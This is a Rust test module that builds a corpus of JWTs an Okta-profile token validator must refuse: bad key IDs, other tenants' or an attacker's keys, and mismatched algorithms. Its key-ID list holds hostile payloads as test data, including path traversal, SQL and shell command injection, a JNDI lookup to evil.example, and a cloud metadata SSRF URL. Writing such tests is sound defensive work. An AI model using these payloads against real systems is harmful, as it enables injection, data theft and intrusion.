//! Threats 19 to 21 and 8: a `kid` is an opaque name among the issuer's keys, and a key is for its own algorithm.

use okta_security_profiles::domain::jose::algorithm::Algorithm;
use serde_json::{Value, json};

use crate::corpus::Corpus;
use crate::world::{LONGEST_KID, OTHER_ISSUER, Rules, World, sign_with, with, without};

/// What a careless look-up would take for a path, a query, a URL or a command.
const NAMES: [&str; 40] = [
    "unknown",
    "OKTA-KEY",
    "Okta-Key",
    "okta_key",
    "okta-ke",
    "kta-key",
    "okta-keyokta-key",
    "\u{feff}okta-key",
    "okta\u{2010}key",
    "оkta-key",
    "okta%2Dkey",
    "okta\\u002dkey",
    ".",
    "..",
    "../okta-key",
    "./okta-key",
    "../../../../dev/null",
    "/dev/null",
    "/proc/self/environ",
    "C:\\Windows\\win.ini",
    "okta-key/../okta-key",
    "okta-key' OR '1'='1",
    "' UNION SELECT 'key' --",
    "okta-key\"; DROP TABLE keys; --",
    "https://evil.example/keys",
    "https://acme.okta.com/oauth2/default/v1/keys",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "data:application/json,{}",
    "arn:aws:ssm:eu-west-1:123456789012:parameter/keys",
    "$(id)",
    "`id`",
    "| id",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n",
    "*",
    "?",
    "0",
    "null",
];

pub(crate) fn add(world: &World, corpus: &mut Corpus) {
    corpus.under(Rules::Okta);
    for kid in [
        json!(null),
        json!(true),
        json!(false),
        json!(0),
        json!(1.5),
        json!([]),
        json!(["okta-key"]),
        json!({}),
        json!({"kid": "okta-key"}),
        json!(""),
        json!("k".repeat(257)),
        json!("k".repeat(258)),
        json!("k".repeat(1_000)),
        json!("é".repeat(129)),
    ] {
        let name = format!("kid {}", kid.to_string().chars().take(40).collect::<String>());
        corpus.refused("key_id_missing", name, world.with_header("kid", kid));
    }
    let token = world.sign(without(world.header(), "kid").to_string(), world.claims().to_string());
    corpus.refused("key_id_missing", "kid missing", token);
    unknown(world, corpus);
    anothers(world, corpus);
    every_key_for_every_algorithm(world, corpus);
}

fn unknown(world: &World, corpus: &mut Corpus) {
    let longest = &LONGEST_KID[1..];
    let appended = (0..=0x7f_u8).map(|byte| format!("okta-key{}", char::from(byte)));
    let names = NAMES.map(str::to_owned).into_iter().chain(appended).chain([longest.to_owned(), "é".repeat(128)]);
    for kid in names {
        let name = format!("kid {:?}", kid.chars().take(40).collect::<String>());
        corpus.refused("key_unknown", name, world.with_header("kid", json!(kid)));
    }
}

fn anothers(world: &World, corpus: &mut Corpus) {
    let claims = |id: &str| with(world.claims(), "jti", json!(id));
    let header = |kid: &str| with(world.header(), "kid", json!(kid)).to_string();
    // The keys of one issuer never serve another.
    let (okta, other) = (&world.okta, &world.other);
    let sign = |key, kid: &str, claims: &Value| sign_with(key, Algorithm::Rs256, header(kid), claims.to_string());
    let as_other = with(claims("AT.other"), "iss", json!(OTHER_ISSUER));
    corpus.refused("key_unknown", "the other tenant's key and kid", sign(other, other.kid, &claims("AT.1")));
    corpus.refused("signature_invalid", "the other tenant's key", sign(other, okta.kid, &claims("AT.1")));
    corpus.refused("key_unknown", "the other tenant's kid", sign(okta, other.kid, &claims("AT.1")));
    corpus.refused("key_unknown", "the other tenant's issuer", sign(okta, okta.kid, &as_other));
    corpus.refused("signature_invalid", "the other tenant's issuer and kid", sign(okta, other.kid, &as_other));
    corpus.refused("signature_invalid", "the attacker's key", sign(&world.attackers, okta.kid, &claims("AT.1")));
    // The right key, named wrongly.
    for key in [&world.p256, &world.p384, &world.ed25519] {
        corpus.refused("key_unfit", format!("RS256 under {}", key.kid), sign(okta, key.kid, &claims("AT.1")));
    }
    corpus.refused("signature_invalid", "the issuer's other RSA key", sign(okta, world.plain.kid, &claims("AT.1")));
    corpus.refused("signature_invalid", "the longest kid's key", sign(okta, LONGEST_KID, &claims("AT.1")));
}

/// Header, `kid` and signer in every combination but the good ones.
fn every_key_for_every_algorithm(world: &World, corpus: &mut Corpus) {
    corpus.under(Rules::EveryAlgorithm);
    let signers = world.published().into_iter().chain([&world.attackers, &world.attackers_p256]).enumerate();
    for (at, signer) in signers {
        for (named_at, named) in world.published().into_iter().enumerate() {
            for algorithm in Algorithm::ALL {
                let fits = named.is_for(algorithm);
                if fits && at == named_at {
                    continue;
                }
                let header = json!({"kid": named.kid, "alg": algorithm.name()}).to_string();
                let claims = with(world.claims(), "jti", json!(format!("AT.signer.{at}"))).to_string();
                let token = sign_with(signer, algorithm, header, claims);
                let name = format!("{algorithm} under {}, by signer {at} ({})", named.kid, signer.kid);
                corpus.refused(if fits { "signature_invalid" } else { "key_unfit" }, name, token);
            }
        }
    }
}
